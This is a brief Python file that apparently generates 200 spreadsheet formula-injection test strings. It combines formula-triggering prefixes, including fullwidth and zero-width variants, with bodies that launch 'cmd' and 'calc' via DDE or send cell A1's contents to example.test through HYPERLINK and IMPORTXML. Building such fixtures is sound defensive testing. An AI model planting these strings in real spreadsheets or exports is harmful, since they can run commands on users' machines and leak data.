"""Two hundred texts that a spreadsheet may take for a formula or a command."""

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "\x00=", "＝", "＋", "－", "＠", " =", "'=", '"=', "\u200b=", "\ufeff=", ";=", "=-", "%0A="]  # fmt: skip  # noqa: E501, RUF001
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://example.test/?"&A1,"Click")',
    'IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
    'DDE("cmd";"/C calc";"x")',
    "SUM(A1:A9)*cmd|'/c x'!A0",
    'WEBSERVICE("http://example.test/")',
    "44 20 7946 0000",
    "2+5+cmd|' /C notepad'!'A1'",
    'EXEC("x"), "a;b"\nnext line',
]
PAYLOADS = [start + body for start in STARTS for body in BODIES]
